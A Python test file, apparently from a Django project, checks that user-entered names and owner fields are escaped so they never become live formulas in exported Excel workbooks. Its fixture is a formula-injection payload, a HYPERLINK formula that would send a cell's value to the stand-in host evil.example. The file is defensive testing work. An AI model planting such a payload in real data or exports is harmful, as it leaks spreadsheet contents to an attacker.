"""Text a user typed (a project owner, a unit's name) never becomes a live formula in a sheet
the product writes: the 周调度 sheet (page and command), the import template's code lists,
the evaluation engine's workbook."""

import io

from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from shouwei.projects.models import Project

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _formulas(book) -> list[str]:
    return [
        f"{ws.title}!{c.coordinate}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("="))
    ]


def _evil_owner(demo):
    project = Project.objects.filter(responsible_unit__code="hy-gxq-cyfz").first()
    Project.objects.filter(pk=project.pk).update(owner_enterprise=EVIL)
    return project


def test_the_weekly_sheet_page_holds_no_formula(client_for, demo):
    _evil_owner(demo)
    response = client_for("staff_cyfz").get(reverse("projects:weekly_sheet"), {"week": "2022-W30"})
    book = load_workbook(io.BytesIO(response.content))
    assert _formulas(book) == []
    values = [c for r in book["周调度"].iter_rows(values_only=True) for c in r]
    assert "'" + EVIL in values


def test_the_weekly_command_holds_no_formula(demo, tmp_path):
    _evil_owner(demo)
    out = tmp_path / "w.xlsx"
    call_command(
        "report", "weekly-projects", "--unit", "hy-gxq", "--week", "2022-W30", "-o", str(out)
    )
    assert _formulas(load_workbook(out)) == []


def test_the_import_template_code_lists_hold_no_formula(client_for, demo):
    from shouwei.core.models import Unit

    Unit.objects.filter(code="hy-gxq-cyfz").update(name=EVIL)
    response = client_for("statistician").get(reverse("imports:template", args=["observations"]))
    assert response.status_code == 200
    assert _formulas(load_workbook(io.BytesIO(response.content))) == []


def test_the_evaluation_workbook_holds_no_formula(tmp_path):
    import xlsxwriter

    from shouwei.evaluation import cli

    path = tmp_path / "e.xlsx"
    book = xlsxwriter.Workbook(str(path))
    cli._sheet(book, "x", [{"单位": EVIL, "得分": 1.5}])
    book.close()
    assert _formulas(load_workbook(path)) == []
